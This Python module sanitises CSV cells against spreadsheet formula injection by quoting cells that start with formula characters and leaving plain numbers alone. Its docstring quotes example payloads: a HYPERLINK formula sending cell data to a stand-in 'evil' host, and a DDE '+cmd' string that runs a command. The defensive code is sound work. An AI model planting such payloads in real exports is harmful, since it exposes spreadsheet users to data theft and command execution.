"""CSV cells that a spreadsheet shows as text, never runs as a formula.

A partner opens a statements export in Excel or LibreOffice. A name loaded as
``=HYPERLINK("http://evil/?"&A1,"click")``, ``+cmd|' /C calc'!A0`` or ``@SUM(1+1)`` would
run there as a formula (CSV injection). Following OWASP, a cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is written with a leading single quote,
which spreadsheets take as "this is text" and do not show.

Plain numbers are left as they are: ``-5``, ``+3.5`` or ``-1.2e3`` are numbers to a
spreadsheet, never formulas, and an amount of ``-500`` should stay a number. Anything
else with such a start, ``-1+1`` included, is quoted. A reader of the CSV who needs the
value exactly as stored strips one leading quote from a cell whose next character is one
of those six; values that already began with a quote are not changed.

Every CSV the project writes goes through ``csv_writer`` (a test holds the package to it).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> str:
    """``value`` as a CSV cell that no spreadsheet evaluates."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class _Out(Protocol):
    def write(self, s: str, /) -> Any: ...


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, out: _Out) -> None:
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])


def csv_writer(out: _Out) -> SafeWriter:
    return SafeWriter(out)
